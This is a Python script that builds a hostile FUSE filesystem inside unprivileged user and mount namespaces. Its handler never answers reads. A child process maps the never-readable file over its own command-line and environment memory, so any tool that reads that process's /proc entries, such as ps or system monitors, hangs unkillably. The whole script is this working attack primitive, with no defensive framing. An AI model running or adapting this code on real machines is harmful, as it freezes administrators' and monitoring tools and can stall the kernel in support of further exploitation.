"""A file system of the attacker's own, in namespaces in which he is root. The only file in it is never read to the end:
who reads it waits, and cannot even be killed. A process of his has it in the place of its command line and environment.

Its second argument is some pages long. Says its own number once all is there: what he mounts is seen by others of his
through /proc/NUMBER/root."""

import ctypes
import os
import struct
import sys
import time

CLONE_NEWNS, CLONE_NEWUSER = 0x00020000, 0x10000000
MS_NOSUID, MS_NODEV = 2, 4
PROT_READ, MAP_PRIVATE, MAP_FIXED = 1, 2, 0x10
LOOKUP, GETATTR, OPEN, READ, INIT, OPENDIR = 1, 3, 14, 15, 26, 27
ROOT, FILE = (1, 0o040755, 0), (2, 0o100644, 1 << 20)

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]


def check(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def mount(place):
    ids = {"setgroups": "deny", "uid_map": f"0 {os.getuid()} 1", "gid_map": f"0 {os.getgid()} 1"}
    check(libc.unshare(CLONE_NEWUSER | CLONE_NEWNS))
    for name, text in ids.items():
        with open(f"/proc/self/{name}", "w") as file:
            file.write(text)
    device = os.open("/dev/fuse", os.O_RDWR)
    options = f"fd={device},rootmode=40000,user_id=0,group_id=0"
    check(libc.mount(b"never", place.encode(), b"fuse", MS_NOSUID | MS_NODEV, options.encode()))
    return device


def attributes(node, mode, size):
    return struct.pack("<6Q10I", node, size, 8, 0, 0, 0, 0, 0, 0, mode, 1, 0, 0, 0, 4096, 0)


def answer_to(operation, node):
    """See fuse(4); None to what is never answered."""
    if operation == INIT:
        return struct.pack("<4I2H2I2HI28x", 7, 31, 1 << 16, 0, 12, 12, 1 << 16, 1, 16, 0, 0)
    if operation == LOOKUP:
        return struct.pack("<4Q2I", FILE[0], 0, 100, 100, 0, 0) + attributes(*FILE)
    if operation == GETATTR:
        return struct.pack("<Q2I", 100, 0, 0) + attributes(*(ROOT if node == ROOT[0] else FILE))
    if operation in (OPEN, OPENDIR):
        return struct.pack("<Q2I", 1, 0, 0)
    return None


def serve(device):
    while True:
        request = os.read(device, 1 << 17)
        _, operation, unique, node = struct.unpack_from("<2I2Q", request)
        answer = answer_to(operation, node)
        if answer is not None:
            os.write(device, struct.pack("<IiQ", 16 + len(answer), 0, unique) + answer)
        elif operation != READ:
            os.write(device, struct.pack("<IiQ", 16, -38, unique))


def hide_command_line(path):
    with open("/proc/self/stat") as file:
        fields = file.read().rsplit(")", 1)[1].split()
    page = os.sysconf("SC_PAGE_SIZE")
    # Between the beginning of the arguments and the end of the environment, as in proc(5). Beside them is the stack: the
    # pages that they have for themselves are taken.
    begin, end = -(-int(fields[45]) // page) * page, int(fields[48]) // page * page
    found = libc.mmap(begin, end - begin, PROT_READ, MAP_PRIVATE | MAP_FIXED, os.open(path, os.O_RDONLY), 0)
    assert found == begin, os.strerror(ctypes.get_errno())


place = sys.argv[1]
device = mount(place)
if os.fork() == 0:
    os.close(device)
    hide_command_line(f"{place}/file")
    print(os.getppid(), flush=True)
    time.sleep(4715)
serve(device)
